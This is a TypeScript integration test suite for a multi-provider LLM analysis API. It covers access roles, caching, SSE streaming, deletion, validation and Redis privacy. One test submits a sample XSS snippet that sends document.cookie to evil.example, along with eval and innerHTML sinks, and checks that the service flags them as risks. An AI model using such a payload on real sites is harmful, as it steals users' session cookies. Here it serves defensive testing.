import request from 'supertest';
import { auditEntries } from './support/audit';
import { adminAuth, signIn, SignedIn } from './support/auth';
import { FakeProvider, FakeProviders, startFakeProviders } from './support/fake-providers';
import { startTestApp, TestApp } from './support/test-app';
import { cooperative } from './support/wall-bounce-engine';

const PEERS: FakeProvider[] = [
  { name: 'peer-a', kind: 'openai', priceInputPer1M: 1, priceOutputPer1M: 2 },
  { name: 'peer-b', kind: 'anthropic', priceInputPer1M: 1, priceOutputPer1M: 2 },
  { name: 'peer-c', kind: 'gemini', priceInputPer1M: 1, priceOutputPer1M: 2 },
];
const ANSWERS = {
  'peer-a': 'Use SET key value EX 60 so that the entry expires after sixty seconds.',
  'peer-b': 'Set it with SET key value EX 60; Redis removes it after sixty seconds.',
  'peer-c': 'Store it with SET and EX 60, or call EXPIRE on the key afterwards.',
};

/** Content no provider, prompt or key name contains: found in Redis only if stored in plaintext. */
const marker = (): string => `needle-${Math.random().toString(36).slice(2, 12)}`;

interface Event {
  id: string;
  type: string;
  data: { seq: number; type: string; analysisId: string; data: Record<string, unknown> };
}

/** Reads a whole SSE response (the server ends it after completed/failed). */
function parseSse(text: string): { events: Event[]; comments: string[] } {
  const events: Event[] = [];
  const comments: string[] = [];
  for (const block of text.split('\n\n')) {
    const fields: Record<string, string> = {};
    for (const line of block.split('\n')) {
      if (line.startsWith(':')) comments.push(line.slice(1).trim());
      const m = /^(event|id|data): ?(.*)$/.exec(line);
      if (m) fields[m[1]] = m[2];
    }
    if (fields.data)
      events.push({ id: fields.id, type: fields.event, data: JSON.parse(fields.data) as never });
  }
  return { events, comments };
}

const answer = cooperative(ANSWERS);
/**
 * Cooperative peers; `SLOWLY` in the content slows every call, `TWO-FAIL` fails two peers,
 * `ONE-FAIL` fails peer-c (a degraded result).
 */
const scripted: Parameters<FakeProviders['script']>[1] = (call) => {
  if (call.prompt.includes('TWO-FAIL') && call.model !== 'peer-a')
    return { error: 400, message: 'bad request' };
  if (call.prompt.includes('ONE-FAIL') && call.model === 'peer-c')
    return { error: 400, message: 'bad request' };
  if (call.prompt.includes('SLOWLY')) return { ...answer(call), latencyMs: 1500 };
  return answer(call);
};
/** Every call: 100 tokens in at 1 USD per million, 50 out at 2 USD per million. */
const CALL_COST_USD = 0.0002;

describe('analyses API (real engine, fake providers, real Redis)', () => {
  let t: TestApp;
  let fakes: FakeProviders;
  let analyst: SignedIn;
  let other: SignedIn;

  beforeAll(async () => {
    fakes = await startFakeProviders();
    for (const p of PEERS) fakes.script(p.name, scripted);
    t = await startTestApp(
      fakes.env(PEERS, {
        ROLE: 'all',
        WALL_BOUNCE_AGGREGATOR: 'peer-a',
        ANALYSIS_HEARTBEAT_MS: '100',
      }),
    );
    analyst = await signIn(t, 'analyst');
    other = await signIn(t, 'analyst');
  });
  afterAll(async () => {
    await fakes?.close();
    await t?.close();
  });

  const create = (who: { auth: object }, body: object, query = '') =>
    request(t.server)
      .post(`/api/v1/analyses${query}`)
      .set(who.auth as Record<string, string>)
      .send(body);
  /** The whole event stream of an analysis as text (the server ends it after completed/failed). */
  const readEvents = (id: string, auth: object, lastEventId?: string) =>
    request(t.server)
      .get(`/api/v1/analyses/${id}/events`)
      .set(auth as Record<string, string>)
      .set(lastEventId === undefined ? {} : { 'Last-Event-ID': lastEventId })
      .buffer(true)
      .parse((response, done) => {
        let text = '';
        response.on('data', (chunk: Buffer) => (text += chunk.toString()));
        response.on('end', () => done(null, text));
      });

  it('creates an analysis (202, Location, queued), runs it, and shows the result to its owner', async () => {
    const content = `How should a cache entry expire? ${marker()}`;
    const res = await create(analyst, { content, mode: 'parallel', cache: false });
    expect(res.status).toBe(202);
    expect(res.headers.location).toBe(`/api/v1/analyses/${res.body.id}`);
    expect(res.body).toMatchObject({ mode: 'parallel', ownerId: analyst.userId });
    expect(['queued', 'running', 'completed']).toContain(res.body.status);

    const done = await request(t.server)
      .post('/api/v1/analyses?wait=30')
      .set(analyst.auth)
      .send({ content: `${content} again`, cache: false });
    expect(done.status).toBe(200);
    expect(done.body.status).toBe('completed');
    expect(done.body.result.answer).toContain('FINAL');
    expect(done.body.result.providers.map((p: { name: string }) => p.name).sort()).toEqual([
      'peer-a',
      'peer-b',
      'peer-c',
    ]);
    expect(done.body.result.usage.inputTokens).toBeGreaterThan(0);
    expect(done.body.startedAt).toBeDefined();
    expect(done.body.completedAt).toBeDefined();

    const got = await request(t.server).get(`/api/v1/analyses/${done.body.id}`).set(analyst.auth);
    expect(got.status).toBe(200);
    expect(got.body).toEqual(done.body);
  });

  it('refuses viewers (403) and hides other users’ analyses (404); administrators see all', async () => {
    const viewer = await signIn(t, 'viewer');
    const refused = await create(viewer, { content: 'viewers may not submit' });
    expect(refused.status).toBe(403);

    const mine = await create(analyst, { content: `private ${marker()}` });
    expect(mine.status).toBe(202);
    for (const path of [
      `/api/v1/analyses/${mine.body.id}`,
      `/api/v1/analyses/${mine.body.id}/events`,
    ]) {
      const res = await request(t.server).get(path).set(other.auth);
      expect(res.status).toBe(404);
    }
    expect(
      (await request(t.server).delete(`/api/v1/analyses/${mine.body.id}`).set(other.auth)).status,
    ).toBe(404);
    const theirs = await request(t.server).get('/api/v1/analyses?limit=100').set(other.auth);
    expect(theirs.body.items.map((a: { id: string }) => a.id)).not.toContain(mine.body.id);

    const admin = await adminAuth(t);
    expect(
      (await request(t.server).get(`/api/v1/analyses/${mine.body.id}`).set(admin)).status,
    ).toBe(200);
    const all = await request(t.server).get('/api/v1/analyses?limit=100').set(admin);
    expect(all.body.items.map((a: { id: string }) => a.id)).toContain(mine.body.id);
  });

  it('lets ci create and read its own analyses but not delete them (403)', async () => {
    const ci = await signIn(t, 'ci');
    const res = await create(ci, { content: `from a pipeline ${marker()}` }, '?wait=30');
    expect(res.status).toBe(200);
    expect(
      (await request(t.server).get(`/api/v1/analyses/${res.body.id}`).set(ci.auth)).status,
    ).toBe(200);
    const del = await request(t.server).delete(`/api/v1/analyses/${res.body.id}`).set(ci.auth);
    expect(del.status).toBe(403);
    expect(del.headers['content-type']).toContain('application/problem+json');
  });

  it('lists own analyses newest first with a cursor and a status filter', async () => {
    const user = await signIn(t, 'analyst');
    const ids: string[] = [];
    for (let i = 0; i < 5; i += 1) {
      const res = await create(user, { content: `list item ${i} ${marker()}` }, '?wait=30');
      expect(res.status).toBe(200);
      ids.push(res.body.id);
    }
    const seen: string[] = [];
    let cursor: string | null = null;
    do {
      const res: request.Response = await request(t.server)
        .get(`/api/v1/analyses?limit=2${cursor ? `&cursor=${cursor}` : ''}`)
        .set(user.auth);
      expect(res.status).toBe(200);
      expect(res.body.items.length).toBeLessThanOrEqual(2);
      seen.push(...res.body.items.map((a: { id: string }) => a.id));
      cursor = res.body.nextCursor;
    } while (cursor);
    expect(seen).toEqual([...ids].reverse());

    const completed = await request(t.server)
      .get('/api/v1/analyses?status=completed&limit=100')
      .set(user.auth);
    expect(completed.body.items).toHaveLength(5);
    const queued = await request(t.server).get('/api/v1/analyses?status=queued').set(user.auth);
    expect(queued.body).toEqual({ items: [], nextCursor: null });

    const bad = await request(t.server)
      .get('/api/v1/analyses?cursor=bm90LWEtY3Vyc29y')
      .set(user.auth);
    expect(bad.status).toBe(400);
  });

  it('answers an identical request of the same owner from cache, unless cache:false, never across owners', async () => {
    const content = `cache me ${marker()}`;
    const first = await create(analyst, { content }, '?wait=30');
    expect(first.status).toBe(200);
    expect(first.body.cached).toBe(false);
    const calls = fakes.calls('peer-b').length;

    const again = await create(analyst, { content }, '?wait=30');
    expect(again.status).toBe(200);
    expect(again.body.id).not.toBe(first.body.id);
    expect(again.body.cached).toBe(true);
    expect(fakes.calls('peer-b').length).toBe(calls);
    // The same answer; this request cost nothing, and the original cost is reported apart.
    const { usage, originalUsage, ...answered } = again.body.result;
    const { usage: paid, ...original } = first.body.result;
    expect(answered).toEqual(original);
    expect(paid.costUsd).toBeGreaterThan(0);
    expect(originalUsage).toEqual(paid);
    expect(usage).toEqual({ inputTokens: 0, outputTokens: 0, costUsd: 0 });
    expect(again.body.usage).toMatchObject({ costUsd: 0, calls: 0, providers: [] });
    expect(first.body.usage).toMatchObject({ costUsd: paid.costUsd });
    const stored = await request(t.server)
      .get(`/api/v1/analyses/${again.body.id}`)
      .set(analyst.auth);
    expect(stored.body).toEqual(again.body);

    const otherMode = await create(analyst, { content, mode: 'sequential' }, '?wait=30');
    expect(otherMode.body.cached).toBe(false);

    const fresh = await create(analyst, { content, cache: false }, '?wait=30');
    expect(fresh.body.cached).toBe(false);
    expect(fakes.calls('peer-b').length).toBeGreaterThan(calls);

    const stranger = await create(other, { content }, '?wait=30');
    expect(stranger.status).toBe(200);
    expect(stranger.body.cached).toBe(false);
    expect(stranger.body.ownerId).toBe(other.userId);
  });

  it('never remembers nor serves a degraded result from the cache', async () => {
    const content = `ONE-FAIL degraded ${marker()}`;
    const first = await create(analyst, { content }, '?wait=30');
    expect(first.body.status).toBe('completed');
    expect(first.body.result.degraded).toBe(true);
    const calls = fakes.calls('peer-b').length;
    const again = await create(analyst, { content }, '?wait=30');
    expect(again.body.status).toBe('completed');
    expect(again.body.cached).toBe(false);
    expect(fakes.calls('peer-b').length).toBeGreaterThan(calls);
    // Nothing under the owner's cache keys points at either analysis.
    for await (const keys of t.redis.scan(
      t.redis.key('analyses', 'cache', `{${analyst.userId}}`, '*'),
    ))
      for (const key of keys)
        expect([first.body.id, again.body.id]).not.toContain(await t.redis.client.get(key));
  });

  it('accepts code in the content and notes its risks in the result, never as attempts', async () => {
    const content = `Is this safe?\n\`\`\`js\nel.innerHTML = params.get('q');\nconst r = eval(params.get('f'));\n<script>document.location='http://evil.example/?c='+document.cookie</script>\n\`\`\`\n${marker()}`;
    const res = await create(analyst, { content, cache: false }, '?wait=30');
    expect(res.status).toBe(200);
    expect(res.body.status).toBe('completed');
    const flags = res.body.result.security.flags.filter(
      (f: { source: string }) => f.source === 'request',
    );
    expect(flags).toEqual(
      expect.arrayContaining([
        expect.objectContaining({ rule: 'risk.eval', kind: 'risk', action: 'note' }),
      ]),
    );
    expect(flags.filter((f: { kind: string }) => f.kind === 'attempt')).toEqual([]);
    expect(res.body.result.security.deniedOperations).toEqual(['write', 'execute', 'modify']);
  });

  it('streams the events in order over SSE, also to a client that connects after the end', async () => {
    const res = await create(analyst, { content: `stream me ${marker()}`, cache: false });
    const live = await readEvents(res.body.id, analyst.auth);
    expect(live.status).toBe(200);
    expect(live.headers['content-type']).toContain('text/event-stream');
    const { events } = parseSse(live.body as string);
    const types = events.map((e) => e.type);
    expect(types[0]).toBe('queued');
    expect(types).toContain('started');
    expect(types).toContain('provider_completed');
    expect(types[types.length - 1]).toBe('completed');
    expect(events.map((e) => e.data.seq)).toEqual(events.map((_, i) => i + 1));
    expect(events.every((e) => e.id === String(e.data.seq))).toBe(true);

    const late = await readEvents(res.body.id, analyst.auth);
    expect(parseSse(late.body as string).events.map((e) => e.data.seq)).toEqual(
      events.map((e) => e.data.seq),
    );
  });

  it('sends heartbeats while an analysis waits', async () => {
    fakes.script('peer-c', (call) => ({ ...cooperative(ANSWERS)(call), latencyMs: 700 }) as never);
    try {
      const res = await create(analyst, { content: `slow ${marker()}`, cache: false });
      const stream = await readEvents(res.body.id, analyst.auth);
      const { events, comments } = parseSse(stream.body as string);
      expect(comments.some((c) => c.startsWith('heartbeat'))).toBe(true);
      expect(events[events.length - 1].type).toBe('completed');
    } finally {
      fakes.script('peer-c', scripted);
    }
  });

  it('deletes (204): cancels, erases content and result, and the analysis is gone', async () => {
    const res = await create(analyst, { content: `erase me ${marker()}` }, '?wait=30');
    const id = res.body.id as string;
    const del = await request(t.server).delete(`/api/v1/analyses/${id}`).set(analyst.auth);
    expect(del.status).toBe(204);
    expect((await request(t.server).get(`/api/v1/analyses/${id}`).set(analyst.auth)).status).toBe(
      404,
    );
    const record = await t.redis.client.hgetall(t.redis.key('analysis', `{${id}}`));
    expect(record).toEqual({ status: 'cancelled', erased: '1' });
    expect(await t.redis.client.exists(t.redis.key('analysis', `{${id}}`, 'events'))).toBe(0);
    const list = await request(t.server).get('/api/v1/analyses?limit=100').set(analyst.auth);
    expect(list.body.items.map((a: { id: string }) => a.id)).not.toContain(id);

    // Creation and deletion are in the audit trail as `analysis` entries naming the analysis.
    let entries = await auditEntries(t);
    for (
      let i = 0;
      i < 50 && !entries.some((e) => e.request.method === 'DELETE' && e.details.analysisId === id);
      i += 1
    ) {
      await new Promise((r) => setTimeout(r, 50));
      entries = await auditEntries(t);
    }
    const mine = entries.filter((e) => e.details.analysisId === id);
    expect(mine.map((e) => [e.type, e.request.method, e.outcome.status])).toEqual(
      expect.arrayContaining([
        ['analysis', 'POST', 200],
        ['analysis', 'DELETE', 204],
      ]),
    );
    expect(JSON.stringify(mine)).not.toContain('erase me');
  });

  it('fails with an insufficient-providers problem when two of three peers fail', async () => {
    const res = await create(
      analyst,
      { content: `TWO-FAIL ${marker()}`, cache: false },
      '?wait=30',
    );
    expect(res.status).toBe(200);
    expect(res.body.status).toBe('failed');
    expect(res.body.result).toBeUndefined();
    expect(res.body.error.type).toMatch(/insufficient-providers$/);
    const events = await readEvents(res.body.id, analyst.auth);
    const parsed = parseSse(events.body as string).events;
    const types = parsed.map((e) => e.type);
    expect(types).toContain('provider_failed');
    expect(types[types.length - 1]).toBe('failed');
    // The one peer that answered was billed: the failed analysis reports it.
    expect(res.body.usage.costUsd).toBeCloseTo(CALL_COST_USD, 9);
    expect(
      res.body.usage.providers.find((p: { name: string }) => p.name === 'peer-a'),
    ).toMatchObject({ calls: 1, failedCalls: 0, inputTokens: 100, outputTokens: 50 });
    expect(parsed[parsed.length - 1].data.data.usage).toEqual({
      inputTokens: res.body.usage.inputTokens,
      outputTokens: res.body.usage.outputTokens,
      costUsd: res.body.usage.costUsd,
    });
  });

  it('deleting a running analysis stops it: nothing is stored afterwards', async () => {
    const res = await create(analyst, { content: `SLOWLY cancel me ${marker()}`, cache: false });
    const id = res.body.id as string;
    for (let i = 0; i < 100; i += 1) {
      const got = await request(t.server).get(`/api/v1/analyses/${id}`).set(analyst.auth);
      if (got.body.status === 'running') break;
      await new Promise((r) => setTimeout(r, 50));
    }
    expect(
      (await request(t.server).delete(`/api/v1/analyses/${id}`).set(analyst.auth)).status,
    ).toBe(204);
    // Longer than the rest of the run would have taken.
    await new Promise((r) => setTimeout(r, 3500));
    expect(await t.redis.client.hgetall(t.redis.key('analysis', `{${id}}`))).toEqual({
      status: 'cancelled',
      erased: '1',
    });
    expect(await t.redis.client.exists(t.redis.key('analysis', `{${id}}`, 'events'))).toBe(0);
    expect((await request(t.server).get(`/api/v1/analyses/${id}`).set(analyst.auth)).status).toBe(
      404,
    );
  });

  it('validates the body: empty content, unknown properties, one provider, wait over 60', async () => {
    expect((await create(analyst, { content: '' })).status).toBe(400);
    expect((await create(analyst, { content: 'x', extra: 1 })).status).toBe(400);
    expect((await create(analyst, { content: 'x', providers: ['peer-a'] })).status).toBe(400);
    expect((await create(analyst, { content: 'x' }, '?wait=61')).status).toBe(400);
    const tooBig = await create(analyst, { content: 'é'.repeat(512 * 1024 + 1) });
    expect(tooBig.status).toBe(400);
  });

  it('refuses unknown or repeated providers and an unknown aggregator, naming the configured ones', async () => {
    const configured = 'peer-a, peer-b, peer-c';
    const before = fakes.calls('peer-a').length;
    const cases: [body: object, field: string, name: string][] = [
      [{ providers: ['peer-a', 'peer-x'] }, 'providers.1', 'peer-x'],
      [{ providers: ['peer-a', 'peer-b', 'peer-a'] }, 'providers.2', 'peer-a'],
      [{ providers: ['peer-b', 'peer-b'] }, 'providers.1', 'peer-b'],
      [{ aggregator: 'nobody' }, 'aggregator', 'nobody'],
    ];
    for (const [body, field, name] of cases) {
      const res = await create(analyst, { content: `choose ${marker()}`, ...body });
      expect(res.status).toBe(400);
      expect(res.headers['content-type']).toContain('application/problem+json');
      expect(res.body.type).toMatch(/validation-failed$/);
      expect(res.body.errors).toHaveLength(1);
      expect(res.body.errors[0].field).toBe(field);
      expect(res.body.errors[0].message).toContain(`"${name}"`);
      expect(res.body.errors[0].message).toContain(configured);
    }
    expect(fakes.calls('peer-a').length).toBe(before);

    const chosen = await create(
      analyst,
      {
        content: `choose well ${marker()}`,
        providers: ['peer-b', 'peer-c'],
        aggregator: 'peer-c',
        task: 'question',
        cache: false,
      },
      '?wait=30',
    );
    expect(chosen.status).toBe(200);
    expect(chosen.body.status).toBe('completed');
  });

  it('validates maxCostUsd: a positive number up to 1000 USD', async () => {
    for (const maxCostUsd of [0, -1, 1000.01, '1', true]) {
      const res = await create(analyst, { content: `capped ${marker()}`, maxCostUsd });
      expect(res.status).toBe(400);
      expect(res.body.errors.map((e: { field: string }) => e.field)).toEqual(
        expect.arrayContaining(['maxCostUsd']),
      );
    }
    const res = await create(analyst, { content: `capped ${marker()}`, maxCostUsd: 0.5 });
    expect(res.status).toBe(202);
    expect((await create(analyst, { content: 'x', task: 'essay' })).status).toBe(400);
  });

  it('resumes an event stream after Last-Event-ID: later events only, none twice, none skipped', async () => {
    const res = await create(analyst, { content: `SLOWLY resume me ${marker()}`, cache: false });
    const id = res.body.id as string;
    // Live: read until a few events have come, then drop the connection.
    const first: Event[] = [];
    await new Promise<void>((resolve, reject) => {
      const req = request(t.server)
        .get(`/api/v1/analyses/${id}/events`)
        .set(analyst.auth)
        .buffer(false)
        .parse((response, done) => {
          let text = '';
          response.on('data', (chunk: Buffer) => {
            // Chunks already in flight may still arrive after the connection is dropped.
            if (first.length > 0) return;
            text += chunk.toString();
            const events = parseSse(text.slice(0, text.lastIndexOf('\n\n') + 2)).events;
            if (events.some((e) => e.type === 'provider_started')) {
              first.push(...events);
              resolve();
              (response as unknown as { destroy(): void }).destroy();
            }
          });
          response.on('error', () => undefined);
          response.on('end', () => done(null, text));
        });
      req.then(
        () => undefined,
        () => undefined,
      );
      setTimeout(() => reject(new Error('no provider_started within 20 s')), 20000).unref();
    });
    const last = first[first.length - 1].id;
    const rest = parseSse((await readEvents(id, analyst.auth, last)).body as string).events;
    expect(rest[0].data.seq).toBe(Number(last) + 1);
    expect(rest[rest.length - 1].type).toBe('completed');
    const all = [...first, ...rest].map((e) => e.data.seq);
    expect(all).toEqual(all.map((_, i) => i + 1));

    // From a stored event in the middle, and from the last one (nothing follows: it ends).
    const whole = parseSse((await readEvents(id, analyst.auth)).body as string).events;
    expect(whole.map((e) => e.data.seq)).toEqual(all);
    const middle = parseSse((await readEvents(id, analyst.auth, '2')).body as string).events;
    expect(middle.map((e) => e.data.seq)).toEqual(all.slice(2));
    const after = await readEvents(id, analyst.auth, String(all.length));
    expect(after.status).toBe(200);
    expect(parseSse(after.body as string).events).toEqual([]);
  });

  it('refuses a malformed or unknown Last-Event-ID with a problem', async () => {
    const res = await create(analyst, { content: `resume badly ${marker()}` }, '?wait=30');
    const stored = parseSse((await readEvents(res.body.id, analyst.auth)).body as string).events;
    for (const value of ['abc', '-1', '1.5', '1e3', String(stored.length + 1)]) {
      const bad = await request(t.server)
        .get(`/api/v1/analyses/${res.body.id}/events`)
        .set(analyst.auth)
        .set('Last-Event-ID', value);
      expect(bad.status).toBe(400);
      expect(bad.headers['content-type']).toContain('application/problem+json');
      expect(bad.body.errors[0].field).toBe('Last-Event-ID');
    }
  });

  it('keeps no submitted content in plaintext anywhere in Redis', async () => {
    const needle = marker();
    const res = await create(
      analyst,
      { content: `secret design notes ${needle}`, cache: false },
      '?wait=30',
    );
    expect(res.body.status).toBe('completed');
    let keys = 0;
    for await (const batch of t.redis.scan(`${t.prefix}*`)) {
      for (const key of batch) {
        keys += 1;
        const dump = await t.redis.client.dumpBuffer(key);
        if (dump) expect(dump.includes(needle)).toBe(false);
        const type = await t.redis.client.type(key);
        const values =
          type === 'string'
            ? [await t.redis.client.get(key)]
            : type === 'hash'
              ? Object.values(await t.redis.client.hgetall(key))
              : type === 'list'
                ? await t.redis.client.lrange(key, 0, -1)
                : type === 'zset'
                  ? await t.redis.client.zrange(key, 0, -1)
                  : type === 'set'
                    ? await t.redis.client.smembers(key)
                    : type === 'stream'
                      ? (await t.redis.client.xrange(key, '-', '+')).flat(3)
                      : [];
        for (const v of values) expect(String(v)).not.toContain(needle);
      }
    }
    expect(keys).toBeGreaterThan(5);
  });

  it('reports the queue and the providers in /health/ready and the queue metrics', async () => {
    const ready = await request(t.server)
      .get('/health/ready')
      .set(await adminAuth(t));
    expect(ready.body.checks.queue.status).toBe('up');
    expect(ready.body.checks.providers.status).toBe('up');
    const metrics = await request(t.server).get('/metrics');
    expect(metrics.text).toMatch(/^techsapo_wall_bounce_queue_length \d+$/m);
    expect(metrics.text).toMatch(/^techsapo_concurrent_jobs \d+$/m);
    expect(metrics.text).toMatch(/^techsapo_wall_bounce_duration_seconds_bucket\{le="0.1",/m);
  });
});
